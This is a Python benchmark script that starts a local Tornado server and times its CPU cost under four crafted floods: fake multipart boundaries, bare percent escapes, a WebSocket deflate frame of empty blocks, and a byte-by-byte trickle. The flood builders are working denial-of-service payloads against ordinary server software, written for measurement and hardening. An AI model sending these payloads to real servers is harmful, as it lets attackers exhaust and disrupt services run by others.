"""What an attacker's bytes cost a server: ms of its processor for one flood.

    floods.py multipart|percent|deflate|trickle

A child process sends; the figure is the server's own. Each flood is one that was quadratic, or
many times dearer than it need be, in some server of this kind.
"""

import asyncio
import os
import socket
import sys
import time

import tornado.httpserver
import tornado.iostream
import tornado.tcpserver
import tornado.web
import tornado.websocket

MEGABYTE = 1_000_000


def post(kind: bytes, body: bytes) -> bytes:
    head = b"POST /form HTTP/1.1\r\nHost: a\r\nContent-Type: %s\r\nContent-Length: %d\r\n"
    return head % (kind, len(body)) + b"Connection: close\r\n\r\n" + body


def multipart() -> list[bytes]:
    """Delimiters that are none."""
    head = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
    body = head + b"\r\n--xA" * (20 * MEGABYTE // 6) + b"\r\n--x--\r\n"
    return [post(b"multipart/form-data; boundary=x", body)]


def percent() -> list[bytes]:
    """Escapes that are none."""
    return [post(b"application/x-www-form-urlencoded", b"a=" + b"%" * (4 * MEGABYTE))]


def deflate() -> list[bytes]:
    """A compressed message of empty blocks, each a final one. (Upstream reads the first only.)"""
    upgrade = (
        b"GET /socket HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
        b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
    )
    payload = b"\x03\x00" * (MEGABYTE // 2) + b"\x00"
    frame = b"\xc2\xff" + len(payload).to_bytes(8, "big") + bytes(4) + payload
    return [upgrade, frame + b"\x88\x80" + bytes(4)]


def trickle() -> list[bytes]:
    """Before the end that `read_until_regex` waits for, byte by byte."""
    return [b"x" * MEGABYTE, *[b"x"] * 5000, b"\r\n\r\n"]


class Form(tornado.web.RequestHandler):
    def post(self) -> None:
        self.finish(str(len(self.request.body_arguments["a"][0])))


class Socket(tornado.websocket.WebSocketHandler):
    def get_compression_options(self) -> dict:
        return {}

    def on_message(self, message: bytes) -> None:
        pass


class Lines(tornado.tcpserver.TCPServer):
    async def handle_stream(self, stream: tornado.iostream.IOStream, address: object) -> None:
        await stream.read_until_regex(rb"\r?\n\r?\n")
        stream.close()


def send(port: int, pieces: list[bytes]) -> None:
    """Send all of it, then wait for the server to close."""
    with socket.create_connection(("127.0.0.1", port)) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for piece in pieces:
            try:
                sock.sendall(piece)
            except OSError:
                break  # refused before its end
            if len(piece) == 1:
                time.sleep(0.0002)  # so that each is a segment of its own
        try:
            while sock.recv(65536):
                pass
        except OSError:
            pass  # reset, for it did not read all


async def main() -> None:
    pieces = {f.__name__: f for f in (multipart, percent, deflate, trickle)}[sys.argv[1]]()
    application = tornado.web.Application([("/form", Form), ("/socket", Socket)])
    if sys.argv[1] == "trickle":
        server = Lines()
    else:
        server = tornado.httpserver.HTTPServer(application)
    server.listen(0, "127.0.0.1")
    (sock,) = server._sockets.values()
    port = sock.getsockname()[1]
    costs = []
    for _ in range(3):  # the first one pays for what a process does once
        child = os.fork()
        if child == 0:
            sock.close()
            send(port, pieces)
            os._exit(0)
        before = time.process_time()
        await asyncio.get_running_loop().run_in_executor(None, os.waitpid, child, 0)
        costs.append(time.process_time() - before)
    print(f"{min(costs) * 1000:.1f}")


asyncio.run(main())
